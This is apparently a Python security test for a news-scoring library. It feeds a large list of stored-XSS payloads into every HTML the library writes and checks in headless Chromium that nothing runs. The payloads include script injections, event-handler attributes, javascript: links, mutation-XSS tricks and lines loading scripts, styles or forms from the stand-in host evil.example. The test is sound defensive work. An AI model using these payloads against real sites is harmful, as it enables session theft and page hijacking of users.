"""Stored script: what a feed could hold, shown by every HTML the library writes, opened in a real browser. Nothing may run.

The pages' own content security policy is taken out first, so that the escaping alone has to hold.
"""

from __future__ import annotations

import csv
import re
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

from features.document import ROLES, Block, Layout
from quality import Document, Page, PageScore, score, score_many
from quality.page import Rail, RailItem
from quality.view import as_html
from tests.browse import launched
from tests.trust.table import ROOT, Row

EVENTS = ("onerror", "onload", "onfocus", "onbegin", "ontoggle", "onpointerenter", "onanimationstart", "onmouseover")
ELEMENTS = (
    "img src=x",
    "svg",
    "input autofocus",
    "svg><animate attributeName=x dur=1s",
    "details open",
    "b style=display:block",
    "video src=x",
    "body",
)
PAYLOADS = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\x0c>pwned()</script>",
    "</title><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</template><script>pwned()</script>",
    "</noscript><script>pwned()</script>",
    "--><script>pwned()</script>",
    "]]><script>pwned()</script>",
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '" autofocus onfocus=pwned() x="',
    "' onmouseover=pwned() x='",
    "` onmouseover=pwned() `",
    '\\"><img src=x onerror=pwned()>',
    *(f"<{element} {event}=pwned()>" for element, event in zip(ELEMENTS, EVENTS, strict=True)),
    *(f'"><{element} {event}="pwned()">衝撃' for element, event in zip(ELEMENTS, EVENTS, strict=True)),
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()>",
    "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "<embed src=javascript:pwned()>",
    "<a href=javascript:pwned()>【衝撃】</a>",
    "<math><mi xlink:href='javascript:pwned()'>x</mi></math>",
    "<svg><use href='data:image/svg+xml,<svg onload=pwned()>'/></svg>",
    "<svg><script>pwned()</script></svg>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example/b.css'</style>",
    "<form action=https://evil.example><button autofocus>送信</button></form>",
    "<isindex action=javascript:pwned()>",
    "<table background=https://evil.example/c.png>",
    "<img src=https://evil.example/d.png>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "＜script＞pwned()＜/script＞",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "<\u200bscript>pwned()</script>",
    "\u202e<script>pwned()</script>",
    "\ud800<script>pwned()</script>\udfff",
    "<noscript><p title='</noscript><script>pwned()</script>'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "<%= pwned() %>",
    "$version$body",
    "<details ontoggle=pwned() open>市長",
    "市長<br\x0bonclick=pwned()>が発表",
)
SCRIPTS = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "java\tscript:pwned()",
    "\x01javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
)  # addresses that run
LINKS = (
    *SCRIPTS,
    'https://evil.example/"onmouseover="pwned()',
    "https://evil.example/'onmouseover='pwned()",
    "https://evil.example/><script>pwned()</script>",
    "//evil.example/",
    "javascript://evil.example/%0apwned()",
)
_POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


def hostile_page() -> PageScore:
    """A page that is hostile in every string a page can carry."""
    bad = PAYLOADS[5]
    body = "\n".join(f"{text}と山田市長が述べた。" for text in PAYLOADS)
    layout = Layout("html", 1000, 200, 300, 50, 50, 100, 10, 3, 1, 2, 1, True)
    article = Document(
        PAYLOADS[0], body, "full", bad, layout, byline=bad, published=bad, site=bad, section=bad, url=LINKS[0]
    )
    items = [RailItem(text, i, bad, LINKS[i % len(LINKS)]) for i, text in enumerate(PAYLOADS)]
    blocks = [Block(text, ROLES[i % len(ROLES)], bad, bad) for i, text in enumerate(PAYLOADS)]
    first, *rest = score_many([article, *[Document(item.title, tag=item.tag) for item in items]])
    return PageScore(first, rest, Page(article, [Rail(bad, bad, items)], blocks))


def pages() -> dict[str, str]:
    """Each HTML that shows what was scored, with the payloads in it."""
    page = hostile_page()
    headlines = "".join(f"<div>{score(text)._repr_html_()}</div>" for text in PAYLOADS)
    return {
        "score --html of a page": as_html(page),
        "score --html of an article": as_html(score(Document(PAYLOADS[10], page.article.document.body))),
        "a page in a notebook": page._repr_html_(),
        "an article in a notebook": page.article._repr_html_(),
        "headlines in a notebook": headlines,
        **{f"score --html of {text[:30]!r}": as_html(score(text)) for text in PAYLOADS[:12]},
    }


def training_report(folder: Path) -> str:
    """The report of `quality train` over rows, a file and columns that are hostile."""
    name = "graded.csv"  # MLflow itself refuses names with marks
    with (folder / name).open("w", encoding="utf-8", errors="replace", newline="") as file:
        out = csv.writer(file)
        out.writerow(["id", "title", "grade", "outlet", "category", "source"])
        for i in range(240):
            text = PAYLOADS[i % len(PAYLOADS)].replace("\x00", "")
            out.writerow(
                [f"{text}{i}", f"市、計画{i}を公表{text}", i % 4, f"{text}{i % 7}", PAYLOADS[i % 2], PAYLOADS[i % 3]]
            )
    command = [sys.executable, "-m", "quality.cli", "train", str(folder / name), "--output", str(folder / "model")]
    environment = {
        "PATH": "/usr/bin:/bin",
        "PYTHONPATH": str(ROOT),
        "MLFLOW_TRACKING_URI": f"sqlite:///{folder}/mlflow.db",
        "HOME": str(folder),
    }
    done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True)
    found = next(folder.rglob("report.html"), None)
    if found is None:
        raise RuntimeError(f"no report was written: {done.stderr[-500:]}")
    return found.read_text(encoding="utf-8")


def what_runs(found: Any, folder: Path, shown: str) -> list[str]:
    """All that a page did beyond being shown: ran, asked for, opened, said."""
    file = folder / "page.html"
    bare = _POLICY.sub("", shown)
    file.write_text(bare if "<html" in bare else f"<!DOCTYPE html><meta charset=utf-8>{bare}", encoding="utf-8")
    context = found.new_context()
    page = context.new_page()
    did: list[str] = []
    page.expose_function("pwned", lambda *_: did.append("a script ran"))
    page.on("dialog", lambda dialog: (did.append("a dialog"), dialog.dismiss()))
    page.on(
        "request", lambda request: did.append(f"asked for {request.url[:80]}") if request.url != file.as_uri() else None
    )
    page.on(
        "framenavigated",
        lambda frame: (
            did.append(f"went to {frame.url[:80]}") if frame.url not in (file.as_uri(), "about:blank") else None
        ),
    )
    page.goto(file.as_uri())
    page.evaluate("""() => {
        for (const d of document.querySelectorAll('details')) d.open = true;
        for (const e of document.querySelectorAll('*'))
            for (const kind of ['mouseover', 'pointerenter', 'focus', 'toggle', 'animationstart', 'error', 'load'])
                e.dispatchEvent(new Event(kind));
        for (const a of document.querySelectorAll('a[href]'))
            if (!/^(https?:|#)/i.test(a.getAttribute('href'))) pwned();
    }""")
    page.wait_for_timeout(150)
    context.close()
    return did


def main(cases: int) -> tuple[list[Row], list[str]]:
    shown = pages()
    with tempfile.TemporaryDirectory() as name, launched() as found:
        shown["the report of a training run"] = training_report(Path(name))
        if not what_runs(found, Path(name), "<img src=x onerror=pwned()>"):
            return [], ["the browser notices nothing"]
        failures = [
            f"{title}: {did[:3]}" for title, text in shown.items() if (did := what_runs(found, Path(name), text))
        ]
    note = f"{len(PAYLOADS)} payloads and {len(LINKS)} links in titles, bodies, tags, addresses, ids; without the pages' own policy"
    if shown["headlines in a notebook"].count("pwned") < len(PAYLOADS) // 2:
        failures.append("the payloads are not shown at all")
    return [
        Row("our HTML", "stored script, opened in Chromium: nothing runs", len(shown), len(shown) - len(failures), note)
    ], failures
